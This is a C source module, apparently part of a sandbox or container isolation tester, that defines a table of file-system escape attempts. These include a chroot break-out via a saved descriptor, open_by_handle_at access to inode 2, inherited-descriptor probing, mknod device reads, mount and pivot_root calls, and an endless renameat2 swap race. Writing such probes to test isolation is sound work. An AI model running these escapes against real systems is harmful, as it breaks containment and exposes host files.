/* Files of the kernel and of the node. */
#include "attacker.h"

#include <sys/mount.h>
#include <sys/sysmacros.h>

static void read_file(char **words) {
    char text[64];
    int fd = open(words[0], O_RDONLY | O_NONBLOCK);
    ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text);
    if (length > 0) printf("ok %zd bytes\n", length);
    else if (length == 0) printf("nothing\n");
    else outcome(-1);
}

static void write_file(char **words) {
    int fd = open(words[0], O_WRONLY);
    outcome(fd < 0 ? -1 : write(fd, words[1], strlen(words[1])));
}

/* Writes what it holds already. */
static void rewrite_file(char **words) {
    char text[256] = "";
    int fd = open(words[0], O_RDONLY);
    if (fd < 0 || read(fd, text, sizeof text - 1) < 0) { outcome(-1); return; }
    close(fd);
    words[1] = text;
    write_file(words);
}

static void mount_kind(char **words) { outcome(mount(words[0], words[1], words[0], 0, words[2])); }
static void bind_path(char **words) { outcome(mount(words[0], words[1], NULL, MS_BIND | MS_REC, NULL)); }
static void unmount(char **words) { outcome(umount2(words[0], MNT_DETACH)); }
static void remount(char **words) { outcome(mount(NULL, words[0], NULL, MS_REMOUNT | MS_BIND, NULL)); }
static void pivot(char **words) { outcome(syscall(SYS_pivot_root, words[0], words[0])); }

/* `device b|c MAJOR MINOR PATH`: makes it and reads of it. */
static void device(char **words) {
    dev_t number = makedev((unsigned)atoi(words[1]), (unsigned)atoi(words[2]));
    unlink(words[3]);
    if (mknod(words[3], (words[0][0] == 'b' ? S_IFBLK : S_IFCHR) | 0600, number) < 0) { outcome(-1); return; }
    char *path[] = {words[3]};
    read_file(path);
    unlink(words[3]);
}

static void mode_set(char **words) { outcome(chmod(words[0], (mode_t)strtol(words[1], NULL, 8))); }

/* The mark of the node, a file of this name, at some directory above. */
static bool mark_find(const char *mark) {
    char path[4096] = "";
    for (int i = 0; i < 40; i++) {
        strcat(path, "../");
        char full[8192], text[64] = "";
        snprintf(full, sizeof full, "%s%s", path, mark[0] == '/' ? mark + 1 : mark);
        int fd = open(full, O_RDONLY);
        if (fd < 0) continue;
        ssize_t length = read(fd, text, sizeof text - 1);
        close(fd);
        if (length > 0) { got(text); return true; }
    }
    return false;
}

static void climb(char **words) {
    if (!mark_find(words[0])) outcome(-1);
}

/* The classic way out: a root below the working directory, which then climbs past it. */
static void chroot_climb(char **words) {
    mkdir("/tmp/jail", 0700);
    int before = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp/jail") < 0 || fchdir(before) < 0) { outcome(-1); return; }
    climb(words);
}

/* By the number of its inode, without a path: 2 is the root of most file systems. */
static void by_handle(char **words) {
    struct { struct file_handle head; uint32_t inode[2]; } handle = {{sizeof handle.inode, 1}, {2, 0}};
    int mounted = open(words[0], O_RDONLY);
    outcome(mounted < 0 ? -1 : syscall(SYS_open_by_handle_at, mounted, &handle, O_RDONLY));
}

/* Whatever descriptor it was born with: the mark above where it points to. */
static void inherited(char **words) {
    for (int fd = 3; fd < 1024; fd++) {
        struct stat status;
        if (fstat(fd, &status) == 0) printf("ok has %d\n", fd);
        if (fchdir(fd) == 0) mark_find(words[0]);
    }
    printf("end\n");
}

/* Swaps a directory and a link again and again: `swap DIRECTORY LINK`, without end. */
static void swap_names(char **words) {
    printf("begun\n");
    for (;;) syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1], 2);
}

const struct attempt file_attempts[] = {
    {"read", read_file}, {"write", write_file}, {"rewrite", rewrite_file}, {"mount", mount_kind}, {"bind", bind_path},
    {"umount", unmount}, {"remount", remount}, {"pivot", pivot}, {"device", device}, {"chmod", mode_set}, {"climb", climb},
    {"chroot", chroot_climb}, {"by-handle", by_handle}, {"inherited", inherited}, {"swap", swap_names}, {NULL, NULL}};
